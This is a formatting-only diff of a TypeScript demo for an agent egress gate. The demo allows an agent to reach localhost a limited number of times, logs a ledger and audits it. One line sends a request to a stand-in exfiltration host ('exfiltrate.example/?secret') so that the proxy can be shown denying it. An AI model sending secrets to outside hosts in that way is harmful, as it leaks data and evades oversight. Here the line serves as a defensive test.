@@ -76,10 +76,17 @@ async function play(options: DemoOptions, directory: string, origin: Origin): Pr
   const { print } = options
   const policyFile = join(directory, 'policies.yaml')
   writeFileSync(policyFile, policy(origin.port))
-  const flags = { listen: '127.0.0.1:0', control: '127.0.0.1:0', agent: 'looper', logLevel: 'silent' }
+  const flags = {
+    listen: '127.0.0.1:0',
+    control: '127.0.0.1:0',
+    agent: 'looper',
+    logLevel: 'silent',
+  }
   const settings = settingsOf({ ...flags, policy: policyFile, data: join(directory, 'data') }, {})
   const world = await openWorld({ settings, log: openLog('silent'), onSeal: () => undefined })
-  print(`${pico.bold('1. a gate')}: agent looper may GET localhost:${origin.port}, ${requestsLimit} times a run`)
+  print(
+    `${pico.bold('1. a gate')}: agent looper may GET localhost:${origin.port}, ${requestsLimit} times a run`,
+  )
   const told = await loop({ world, origin, print })
   await world.close()
   print(pico.bold('3. the ledger'))
@@ -104,7 +111,9 @@ async function loop(parts: {
   const proxy = world.proxy.port
   const allowed = `http://localhost:${origin.port}/`
   const denied = await get(proxy, 'http://exfiltrate.example/?secret')
-  print(`   ${pico.red(`${denied.status} ${denied.reason}`)}  http://exfiltrate.example/ (no DNS query was sent)`)
+  print(
+    `   ${pico.red(`${denied.status} ${denied.reason}`)}  http://exfiltrate.example/ (no DNS query was sent)`,
+  )
   print(`${pico.bold('2. the agent loops')} and never stops by itself`)
   let warned = false
   for (let turn = 1; turn <= loopsMax; turn += 1) {
@@ -142,7 +151,11 @@ function get(port: number, url: string): Promise<{ status: number; reason: strin
 }
 
 function verify(settings: Settings, print: (text: string) => void): Promise<number> {
-  return auditVerify({ dataDirectory: settings.dataDirectory, replay: true, print: (text) => print(indented(text)) })
+  return auditVerify({
+    dataDirectory: settings.dataDirectory,
+    replay: true,
+    print: (text) => print(indented(text)),
+  })
 }
 
 const indented = (text: string): string => text.replace(/^/gm, '   ')
